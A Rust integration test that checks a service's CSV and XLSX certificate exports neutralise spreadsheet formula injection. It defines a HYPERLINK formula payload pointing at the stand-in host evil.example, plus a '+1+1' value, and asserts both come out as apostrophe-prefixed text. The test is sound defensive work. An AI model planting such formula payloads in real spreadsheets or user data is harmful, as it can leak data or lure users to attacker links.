//! Issue 22: what leaves the server in spreadsheets. Point 6: every CSV and XLSX cell that a
//! spreadsheet program would run as a formula is neutralised by the one writer all exports use.

#![allow(clippy::expect_used, reason = "test code: a failed setup step should fail the test loudly")]

use reqwest::Method;
use serde_json::json;
use tests::pipeline::{candidate, file_and_acknowledge, new_plan, review, setup};

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x\",\"点击\")";

#[tokio::test]
async fn a_candidate_named_like_a_formula_is_exported_as_text() {
    let s = setup("2026-11-02").await;
    let plan = new_plan(&s, "2026-12-15").await;
    let mut evil = candidate(1);
    evil["name"] = json!(EVIL);
    evil["class_name"] = json!("+1+1");
    for c in [evil, candidate(2)] {
        let a = s
            .app
            .json(Method::POST, &format!("/api/v1/plans/{plan}/candidates"), Some(&s.school.token), &c)
            .await;
        assert_eq!(a.status.as_u16(), 201, "{}", a.text);
    }
    file_and_acknowledge(&s, &plan).await;
    review(&s, &plan).await;
    let school = s.app.login("school1", "a-long-password-1").await;
    let a = s
        .app
        .json(Method::POST, &format!("/api/v1/plans/{plan}/certificates"), Some(&school), &json!({}))
        .await;
    assert_eq!(a.status.as_u16(), 201, "{}", a.text);

    let csv = s.app.get(&format!("/api/v1/plans/{plan}/certificates/export?format=csv"), Some(&school)).await;
    assert_eq!(csv.status.as_u16(), 200, "{}", csv.text);
    // The csv crate quotes the cell (it holds quotes); inside, the text starts with the apostrophe.
    assert!(
        csv.text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"点击\"\")\""),
        "{}",
        csv.text
    );
    for line in csv.text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula in {line:?}");
        }
    }

    let xlsx = s
        .app
        .send(
            s.app
                .request(Method::GET, &format!("/api/v1/plans/{plan}/certificates/export?format=xlsx"))
                .bearer_auth(&school),
        )
        .await;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx.bytes)).expect("an XLSX is a zip");
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut archive.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
        &mut sheet,
    )
    .expect("xml");
    assert!(sheet.contains(">'=HYPERLINK(&quot;http://evil.example/?x&quot;"), "{sheet}");
    assert!(!sheet.contains(">=HYPERLINK"), "{sheet}");
}
